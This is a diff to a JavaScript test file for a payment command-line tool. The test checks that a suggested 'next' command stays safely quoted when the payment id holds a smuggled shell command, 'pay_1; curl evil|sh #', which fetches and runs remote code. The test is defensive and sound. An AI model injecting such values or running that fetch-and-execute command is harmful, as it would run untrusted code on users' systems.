@@ -122,7 +122,7 @@ describe('a payment on a terminal', () => {
 
   it('a line to be copied runs nothing but bursar, whatever id the service gave', () => {
     const text = shown(registeredCard({ payment_id: 'pay_1; curl evil|sh #' }, PAYMENT));
-    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #' --transaction-type");
+    expect(text).toContain("next: bursar pay transaction 'pay_1; curl evil|sh #' …");
   });
 
   it('a transaction whose form no document shows is shown whole', () => {
